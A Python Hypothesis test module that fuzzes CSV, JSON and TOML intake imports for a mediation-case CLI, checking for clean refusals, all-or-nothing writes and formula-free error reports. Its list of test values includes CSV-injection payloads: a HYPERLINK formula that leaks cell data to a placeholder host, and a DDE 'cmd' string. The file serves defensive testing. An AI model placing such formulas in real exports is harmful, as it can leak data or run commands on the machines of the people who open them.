"""Fuzzed intake files through the CLI, on SQLite and PostgreSQL (issue 6 point 4).

Hypothesis writes intake files — CSV and JSON bulk imports (``mediation intake import``)
and single intake records in JSON or TOML (``mediation case open --from``) — from
near-valid rows with some cells broken: random bytes, other encodings (GBK, UTF-16, Latin-1),
missing and extra columns or cells, unknown and duplicated columns, huge fields, formula
strings (``=HYPERLINK(...)``), wrongly typed JSON values, wrong top-level shapes. For every
file the command must either succeed (exit 0) or refuse it cleanly (exit 3, the documented
``INVALID_INPUT``; ``case open`` says 4, ``NOT_FOUND``, for an unknown committee) — never a
traceback — and what it wrote must be all of the file or nothing: after a refusal every
row count and the audit head are what they were; after an import exactly one dispute,
proceeding, first event and chain entry per imported row.

Each failure the fuzzing found is also pinned, at the end of the module, by one
deterministic example on both databases: nesting too deep to parse, a 5,000-digit number,
a lone surrogate, NUL, a timestamp outside datetime's range, a legal representative longer
than its column, a formula in the error report, a UTF-8 BOM.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from typer.testing import CliRunner, Result

from mediation.cli import app
from mediation.domain import taxonomy
from mediation.domain.clock import BUSINESS_TZ
from mediation.domain.personal import check_digit
from mediation.engine.imports import ROW_FIELDS
from mediation.errors import ExitCode
from mediation.storage._tables import (
    audit_head_table,
    case_counter_table,
    deadline_table,
    dispute_table,
    event_table,
    party_table,
    proceeding_table,
)
from mediation.storage.store import Store
from mediation.workflows import flow_names
from tests.conftest import intake_record

NOW = {"MEDIATION_NOW": "2026-03-02T09:00:00+08:00"}
ORGANISATIONS = ("江城", "青山", "城关", "桥头")
FLOWS = flow_names()
CLEAN_EXITS = {int(ExitCode.OK), int(ExitCode.INVALID_INPUT)}
#: ``case open`` names an unknown committee with NOT_FOUND (documented: "no such ...
#: organisation"), not INVALID_INPUT as ``intake import`` does for the same row.
OPEN_EXITS = CLEAN_EXITS | {int(ExitCode.NOT_FOUND)}

#: Files per test and database; MEDIATION_FUZZ_EXAMPLES=1000 (say) for a longer soak.
FUZZ = settings(
    max_examples=int(os.environ.get("MEDIATION_FUZZ_EXAMPLES", "40")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)

# -- values -------------------------------------------------------------------------------

#: Any code point UTF-8 can carry (NUL included).
_CHARS = st.characters(codec="utf-8")
_TEXT = st.text(_CHARS, max_size=40)
_SOME_TEXT = st.text(_CHARS, min_size=1, max_size=60).filter(str.strip)
#: What a spreadsheet would run, and what breaks naive parsers.
_NASTY = st.sampled_from(
    [
        "=1+2",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "=cmd|' /C calc'!A0",
        '",,,"',
        "a\nb\r\nc",
        "\u202e倒序\u202c",
        "😀👪",
        "   ",
        "长" * 201,
        "x" * 5001,
        "y" * 140_000,  # longer than the csv module's field limit
        "长" * 100,  # the limits of columns and of validation, and one past them
        "长" * 101,
        "长" * 200,
        "x" * 5000,
        "噪\x00音",
        "噪\ud800音",  # a lone surrogate: JSON can carry it as \\ud800
    ]
)
#: How much of a file is broken: nothing (half the files, so that imports do happen),
#: now and then a cell, or a lot.
_DAMAGE = st.sampled_from([0, 0, 0, 3, 10, 40])


def _id_number(n: int) -> str:
    body = f"330681{19600101 + n % 28:08d}{n % 1000:03d}"
    return body + check_digit(body)


def _valid_values() -> dict[str, st.SearchStrategy[str]]:
    """A value each import column (ROW_FIELDS) accepts."""
    names = st.sampled_from(["张三", "李四", "王五", "赵䶮"]) | _SOME_TEXT
    values: dict[str, st.SearchStrategy[str]] = {
        "external_ref": st.integers(0, 10**9).map(lambda n: f"GD{n:09d}"),
        "organisation": st.sampled_from(ORGANISATIONS),
        "dispute_type": st.sampled_from([*taxonomy.DISPUTE_TYPES, "邻里", "物业"]),
        "title": st.sampled_from(["楼上夜间噪音扰民", "物业费纠纷"]) | _SOME_TEXT,
        "summary": _TEXT,
        "claims": _TEXT,
        "received_at": st.datetimes(timezones=st.sampled_from([None, UTC, BUSINESS_TZ])).map(
            datetime.isoformat
        )
        | st.dates().map(date.isoformat),
        "risk_level": st.sampled_from([*taxonomy.RISK_LEVELS, "红"]),
        "application_mode": st.sampled_from(list(taxonomy.APPLICATION_MODES)),
        "referring_organ": _TEXT,
    }
    for role in ("applicant", "respondent"):
        values[f"{role}_name"] = names
        values[f"{role}_kind"] = st.just("person")
        values[f"{role}_gender"] = st.sampled_from([*taxonomy.GENDERS, "男", "女"])
        values[f"{role}_id_number"] = st.integers(0, 10**4).map(_id_number)
        values[f"{role}_phone"] = st.integers(10**10, 2 * 10**10 - 1).map(str)
        values[f"{role}_address"] = _TEXT
        values[f"{role}_legal_representative"] = st.text(_CHARS, max_size=200)
    return values


VALID = _valid_values()
#: Wrong values with a meaning (besides empty, nasty and random text, which any cell gets).
WRONG: dict[str, st.SearchStrategy[str]] = {
    "organisation": st.just("不存在"),
    "dispute_type": st.just("吵架"),
    "received_at": st.sampled_from(["昨天", "2026-13-01", "2026-02-30T25:00"]),
    "risk_level": st.just("purple"),
    "application_mode": st.just("fax"),
    "external_ref": st.just("GD000000001"),  # the same in every file: refused once imported
}
for _role in ("applicant", "respondent"):
    WRONG[f"{_role}_kind"] = st.sampled_from(["company", "organisation"])  # no legal rep.
    WRONG[f"{_role}_id_number"] = st.sampled_from(["110105194912310021", "33068119601340001X"])
    WRONG[f"{_role}_phone"] = st.sampled_from(["12ab", "123", "1" * 16])


@st.composite
def cells(draw: st.DrawFn, column: str, damage: int) -> str:
    """A cell of ``column``: valid, or broken in ``damage`` cases out of a hundred."""
    if draw(st.integers(0, 99)) >= damage:
        return draw(VALID.get(column, _TEXT))
    broken = st.just("") | _NASTY | _TEXT
    return draw(WRONG[column] | broken if column in WRONG else broken)


_REQUIRED = ["organisation", "dispute_type", "title", "applicant_name", "respondent_name"]
_OPTIONAL = [c for c in ROW_FIELDS if c not in _REQUIRED]


@st.composite
def rows(draw: st.DrawFn, columns: list[str], damage: int) -> dict[str, str]:
    return {col: draw(cells(col, damage)) for col in columns}


@st.composite
def encodings(draw: st.DrawFn, damage: int, *, bom: bool = True) -> str:
    """UTF-8 (with a BOM where the command accepts one); when damaged, now and then another.

    ``case open`` refuses a BOM (test_case_open_accepts_a_utf8_bom): no BOM there."""
    if damage and draw(st.integers(0, 3)) == 0:
        return draw(st.sampled_from(["gbk", "utf-16", "latin-1", "utf-32", "utf-8-sig"]))
    return draw(st.sampled_from(["utf-8", "utf-8-sig"] if bom else ["utf-8"]))


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    """A CSV export; when damaged: a required column missing, an unknown, duplicated or
    padded column, rows with cells missing or extra, another encoding."""
    damage = draw(_DAMAGE)
    columns = list(_REQUIRED)
    if damage and draw(st.integers(0, 9)) == 0:
        columns.remove(draw(st.sampled_from(columns)))
    columns += draw(st.lists(st.sampled_from(_OPTIONAL), unique=True, max_size=8))
    if damage and draw(st.integers(0, 4)) == 0:
        columns.append(draw(st.sampled_from(["备注", "=1+2", "title", " organisation ", ""])))
    columns = list(draw(st.permutations(columns)))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for row in draw(st.lists(rows(columns, damage), max_size=6)):
        line = [row[c] for c in columns]
        ragged = draw(st.integers(0, 9)) if damage else 9
        if ragged == 0:
            line = line[: draw(st.integers(0, len(line) - 1))]
        elif ragged == 1:
            line += draw(st.lists(_TEXT, min_size=1, max_size=3))
        writer.writerow(line)
    return out.getvalue().encode(draw(encodings(damage)), errors="replace")


_JSON_LEAF = (
    st.none()
    | st.booleans()
    | st.integers(-(10**12), 10**12)
    | st.floats(allow_nan=True, allow_infinity=True)
    | _TEXT
    | _NASTY
)
#: Any JSON value, a few levels deep.
_JSON_ANY = st.recursive(
    _JSON_LEAF,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=8,
)


@st.composite
def records(draw: st.DrawFn, damage: int) -> dict[str, Any]:
    """An import record: a flat CSV-like row, or a nested intake record; when damaged,
    values of the wrong JSON type and unknown keys too."""
    record: dict[str, Any]
    if draw(st.booleans()):
        columns = _REQUIRED + draw(st.lists(st.sampled_from(_OPTIONAL), unique=True, max_size=6))
        record = draw(rows(columns, damage))
    else:
        record = intake_record(organisation=draw(cells("organisation", damage)))
        del record["channel"]  # the command line gives it
        record["external_ref"] = draw(cells("external_ref", damage))
    if damage:
        for _ in range(draw(st.integers(0, 2))):
            key = draw(st.sampled_from([*record, "备注", "=HYPERLINK(1)", "flow"]))
            record[key] = draw(_JSON_ANY)
    return record


@st.composite
def json_files(draw: st.DrawFn) -> bytes:
    """A JSON import: a list of records or ``{"records": [...]}``; when damaged, now and
    then another shape or a truncated file."""
    damage = draw(_DAMAGE)
    body = draw(st.lists(records(damage), max_size=5))
    data: Any = {"records": body} if draw(st.booleans()) else body
    if damage and draw(st.integers(0, 4)) == 0:
        data = draw(_JSON_ANY | st.fixed_dictionaries({"records": _JSON_ANY}))
    text = json.dumps(data, ensure_ascii=draw(st.booleans()))
    if damage and draw(st.integers(0, 9)) == 0:
        text = text[: draw(st.integers(0, len(text)))]
    if damage and draw(st.integers(0, 19)) == 0:
        depth = draw(st.sampled_from([100, 1000, 100_000]))
        text = "[" * depth + "]" * depth
    return text.encode(draw(encodings(damage)), errors="replace")


def _toml_value(value: Any) -> str:
    """A TOML rendering of strings, integers, booleans and lists of them (a JSON string
    literal is a valid TOML basic string)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    return json.dumps(str(value), ensure_ascii=False)


def _toml_table(data: dict[str, Any]) -> list[str]:
    return [
        f"{json.dumps(k, ensure_ascii=False)} = {_toml_value(v)}"
        for k, v in data.items()
        if not isinstance(v, dict) and k != "parties"
    ]


def to_toml(record: dict[str, Any]) -> str:
    """An intake record as TOML: top-level keys, then one ``[[parties]]`` table each."""
    lines = _toml_table(record)
    parties = record.get("parties")
    for party in parties if isinstance(parties, list) else []:
        lines.append("[[parties]]")
        if isinstance(party, dict):
            lines += _toml_table(party)
    return "\n".join(lines) + "\n"


_PARTY_FIELDS = {
    "role": st.sampled_from(["applicant", "respondent", "third_party", "申请人", "judge"]),
    "kind": st.sampled_from(["person", "organisation", "company"]),
    "name": VALID["applicant_name"],
    "gender": VALID["applicant_gender"],
    "id_number": VALID["applicant_id_number"] | WRONG["applicant_id_number"],
    "phone": VALID["applicant_phone"] | WRONG["applicant_phone"],
    "birth_date": st.dates().map(date.isoformat) | _TEXT,
    "legal_representative": VALID["applicant_legal_representative"],
}
_INTAKE_EXTRAS = ("received_at", "risk_level", "application_mode", "summary", "claims")


@st.composite
def intake_files(draw: st.DrawFn) -> tuple[str, bytes]:
    """A single intake record for ``case open --from``: (suffix, bytes)."""
    damage = draw(_DAMAGE)
    channel = draw(st.sampled_from(list(taxonomy.CHANNELS)))
    record = intake_record(
        organisation=draw(cells("organisation", damage)),
        channel=channel,
        flow=draw(st.sampled_from(FLOWS)),
    )
    if channel in taxonomy.REFERRAL_CHANNELS:
        record.update(referring_organ="青山县人民法院", referral_ref=draw(VALID["external_ref"]))
    for field in draw(st.lists(st.sampled_from(_INTAKE_EXTRAS), unique=True, max_size=3)):
        record[field] = draw(cells(field, damage))
    if damage:
        for _ in range(draw(st.integers(1, 3))):
            field = draw(st.sampled_from([*record, "备注"]))
            mutation = draw(st.integers(0, 4))
            if mutation == 0:
                record.pop(field, None)
            elif mutation == 1:
                record[field] = draw(_NASTY)
            elif mutation == 2:
                record[field] = draw(_JSON_ANY)
            elif field in ("flow", "channel"):
                record[field] = "no_such_" + field
            elif isinstance(parties := record.get("parties"), list) and parties:
                party = draw(st.sampled_from(parties))
                if isinstance(party, dict):
                    key = draw(st.sampled_from(list(_PARTY_FIELDS)))
                    party[key] = draw(_PARTY_FIELDS[key] | _NASTY)
    if draw(st.booleans()):
        suffix, text = ".toml", to_toml(record)
    else:
        suffix, text = ".json", json.dumps(record, ensure_ascii=draw(st.booleans()))
        if damage and draw(st.integers(0, 19)) == 0:  # a number Python will not parse
            text = text[:-1] + ', "summary": ' + "7" * 5000 + "}"
    return suffix, text.encode(draw(encodings(damage, bom=False)), errors="replace")


# -- running ------------------------------------------------------------------------------

_COUNTED = (
    dispute_table,
    party_table,
    proceeding_table,
    event_table,
    deadline_table,
    case_counter_table,
)


def counts(store: Store) -> dict[str, int]:
    """Rows per table, and the audit chain's head position."""
    with store.read() as conn:
        found = {
            t.name: conn.execute(select(func.count()).select_from(t)).scalar_one() for t in _COUNTED
        }
        found["audit_head"] = conn.execute(select(audit_head_table.c.seq)).scalar_one()
    return found


def invoke(runner: CliRunner, db_url: str, *args: str) -> Result:
    return runner.invoke(app, ["--db", db_url, *args], env=NOW)


def assert_clean(result: Result, exits: set[int] = CLEAN_EXITS) -> None:
    """Exit 0 or 3, and the CLI's own way out (typer.Exit), never an escaped exception."""
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(
            f"traceback instead of a clean error: {result.exception!r}"
        ) from result.exception
    assert result.exit_code in exits, (result.exit_code, result.stdout, result.stderr)


def succeeded(result: Result, exits: set[int] = CLEAN_EXITS) -> bool:
    """Whether the command succeeded; if not, it must have refused cleanly."""
    assert_clean(result, exits)
    return result.exit_code == 0


def check_import(
    store: Store, runner: CliRunner, db_url: str, path: Path, data: bytes, options: list[str]
) -> Result:
    """Import ``data`` from ``path``; assert a clean outcome that wrote all or nothing."""
    path.write_bytes(data)
    before = counts(store)
    result = invoke(runner, db_url, "intake", "import", str(path), *options, "--json")
    after = counts(store)
    if not succeeded(result):
        assert after == before, "a refused import wrote something"
        return result
    imported = len(json.loads(result.stdout)["imported"])
    for table in ("dispute", "proceeding", "event"):
        assert after[table] - before[table] == imported, table
    assert after["party"] - before["party"] >= 2 * imported
    assert after["audit_head"] - before["audit_head"] == imported
    return result


_OPTIONS = st.tuples(
    st.sampled_from(["hotline", "grid", "court", "petition", "walk_in", "fax"]),
    st.sampled_from([None, "城关", "不存在"]),
    st.sampled_from([None, "青山县人民法院"]),
).map(
    lambda t: (
        ["--channel", t[0]]
        + (["--org", t[1]] if t[1] else [])
        + (["--referring-organ", t[2]] if t[2] else [])
    )
)


def test_fuzzed_csv_imports(store: Store, db_url: str, runner: CliRunner, tmp_path: Path):
    @FUZZ
    @given(data=csv_files(), options=_OPTIONS)
    def run(data: bytes, options: list[str]) -> None:
        check_import(store, runner, db_url, tmp_path / "export.csv", data, options)

    run()


def test_fuzzed_json_imports(store: Store, db_url: str, runner: CliRunner, tmp_path: Path):
    @FUZZ
    @given(data=json_files(), options=_OPTIONS)
    def run(data: bytes, options: list[str]) -> None:
        check_import(store, runner, db_url, tmp_path / "referrals.json", data, options)

    run()


def test_random_bytes(store: Store, db_url: str, runner: CliRunner, tmp_path: Path):
    """Any bytes at all, under every name the commands accept."""

    @FUZZ
    @given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".json", ".toml"]))
    def run(data: bytes, suffix: str) -> None:
        check_import(store, runner, db_url, tmp_path / f"x{suffix}", data, ["--channel", "grid"])
        before = counts(store)
        result = invoke(runner, db_url, "case", "open", "--from", str(tmp_path / f"x{suffix}"))
        assert not succeeded(result, OPEN_EXITS)  # no random bytes make a valid intake record
        assert counts(store) == before

    run()


def test_fuzzed_intake_records(store: Store, db_url: str, runner: CliRunner, tmp_path: Path):
    @FUZZ
    @given(file=intake_files())
    def run(file: tuple[str, bytes]) -> None:
        suffix, data = file
        path = tmp_path / f"intake{suffix}"
        path.write_bytes(data)
        before = counts(store)
        result = invoke(runner, db_url, "case", "open", "--from", str(path))
        after = counts(store)
        if not succeeded(result, OPEN_EXITS):
            assert after == before, "a refused intake wrote something"
            return
        for table in ("dispute", "proceeding", "event"):
            assert after[table] == before[table] + 1, table

    run()


# -- what the fuzzing found ------------------------------------------------------------------
#
# One deterministic example per failure found (each was a traceback or a database refusal,
# or a formula in the report), kept as regression tests on both databases.


def _flat_row(**overrides: str) -> dict[str, str]:
    """A valid import row (``intake import --channel hotline``)."""
    row = {
        "organisation": "城关",
        "dispute_type": "neighbourhood",
        "title": "楼上夜间噪音扰民",
        "applicant_name": "张三",
        "respondent_name": "李四",
    }
    row.update(overrides)
    return row


def _open_args(path: Path) -> list[str]:
    return ["case", "open", "--from", str(path)]


def _import_args(path: Path) -> list[str]:
    return ["intake", "import", str(path), "--channel", "hotline"]


def refused_cleanly(
    store: Store, runner: CliRunner, db_url: str, path: Path, text: str, args: list[str]
) -> Result:
    """Run the command on ``text``: refused as bad input (exit 3, no traceback), nothing
    written."""
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    before = counts(store)
    result = invoke(runner, db_url, *args)
    assert counts(store) == before, "something was written"
    assert_clean(result, {int(ExitCode.INVALID_INPUT)})
    return result


_DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(
    ("name", "text", "args"),
    [
        ("deep.json", _DEEP, _open_args),
        ("deep.toml", "title = " + "[" * 5000 + "]" * 5000, _open_args),
        ("deep.json", _DEEP, _import_args),
    ],
    ids=["case-open-json", "case-open-toml", "intake-import-json"],
)
def test_deeply_nested_files_are_refused_cleanly(
    store: Store,
    db_url: str,
    runner: CliRunner,
    tmp_path: Path,
    name: str,
    text: str,
    args: Callable[[Path], list[str]],
) -> None:
    refused_cleanly(store, runner, db_url, tmp_path / name, text, args(tmp_path / name))


def test_a_huge_json_number_is_refused_cleanly(
    store: Store, db_url: str, runner: CliRunner, tmp_path: Path
) -> None:
    text = json.dumps(intake_record())[:-1] + ', "summary": ' + "7" * 5000 + "}"
    refused_cleanly(
        store, runner, db_url, tmp_path / "n.json", text, _open_args(tmp_path / "n.json")
    )


@pytest.mark.parametrize("args", [_open_args, _import_args], ids=["case-open", "intake-import"])
def test_a_lone_surrogate_is_refused_cleanly(
    store: Store,
    db_url: str,
    runner: CliRunner,
    tmp_path: Path,
    args: Callable[[Path], list[str]],
) -> None:
    path = tmp_path / "s.json"
    record: Any = intake_record(title="噪音\ud800纠纷")
    if args is _import_args:
        record = [_flat_row(title="噪音\ud800纠纷")]
    refused_cleanly(store, runner, db_url, path, json.dumps(record), args(path))


@pytest.mark.parametrize("args", [_open_args, _import_args], ids=["case-open", "intake-import"])
def test_received_at_out_of_range_is_refused_cleanly(
    store: Store,
    db_url: str,
    runner: CliRunner,
    tmp_path: Path,
    args: Callable[[Path], list[str]],
) -> None:
    path = tmp_path / "t.json"
    when = "0001-01-01T00:00:00+14:00"
    record: Any = intake_record(received_at=when)
    if args is _import_args:
        record = [_flat_row(received_at=when)]
    refused_cleanly(store, runner, db_url, path, json.dumps(record), args(path))


@pytest.mark.parametrize("args", [_open_args, _import_args], ids=["case-open", "intake-import"])
def test_nul_in_a_text_field_is_refused_cleanly(
    store: Store,
    db_url: str,
    runner: CliRunner,
    tmp_path: Path,
    args: Callable[[Path], list[str]],
) -> None:
    """PostgreSQL text cannot hold NUL (SQLite can): refused alike on both, as bad input."""
    path = tmp_path / "z.json"
    record: Any = intake_record(title="噪音\x00纠纷")
    if args is _import_args:
        record = [_flat_row(title="噪音\x00纠纷")]
    refused_cleanly(store, runner, db_url, path, json.dumps(record), args(path))


def test_a_long_legal_representative_is_refused_cleanly(
    store: Store, db_url: str, runner: CliRunner, tmp_path: Path
) -> None:
    """The column holds 100 characters: 150 are bad input on both databases (PostgreSQL
    refused the write while validation allowed 200)."""
    parties = [
        {
            "role": "applicant",
            "kind": "organisation",
            "name": "江城市某物业服务有限公司",
            "legal_representative": "王" * 150,
        },
        {"role": "respondent", "name": "李四"},
    ]
    path = tmp_path / "lr.json"
    text = json.dumps(intake_record(parties=parties))
    refused_cleanly(store, runner, db_url, path, text, _open_args(path))


#: A cell a spreadsheet (Excel, WPS) would evaluate (OWASP "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_error_report_cannot_carry_a_formula(
    store: Store, db_url: str, runner: CliRunner, tmp_path: Path
) -> None:
    first = tmp_path / "first.json"
    first.write_text(json.dumps([_flat_row(external_ref="=1+2")]))
    assert invoke(runner, db_url, *_import_args(first)).exit_code == 0
    again = tmp_path / "again.json"
    rows = [
        _flat_row(external_ref="=1+2"),  # imported before
        {**_flat_row(), '=HYPERLINK("http://example.invalid","点击")': "x"},  # unknown key
    ]
    again.write_text(json.dumps(rows))
    result = invoke(runner, db_url, *_import_args(again), "--report", str(tmp_path / "r.csv"))
    assert result.exit_code == int(ExitCode.INVALID_INPUT), result.stderr
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert any("=1+2" in c for c in cells) and any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(_FORMULA_START)]


@pytest.mark.parametrize("suffix", [".json", ".toml"])
def test_case_open_accepts_a_utf8_bom(
    store: Store, db_url: str, runner: CliRunner, tmp_path: Path, suffix: str
) -> None:
    record = intake_record()
    text = to_toml(record) if suffix == ".toml" else json.dumps(record, ensure_ascii=False)
    path = tmp_path / f"bom{suffix}"
    path.write_bytes(text.encode("utf-8-sig"))
    result = invoke(runner, db_url, *_open_args(path))
    assert result.exit_code == 0, result.stderr
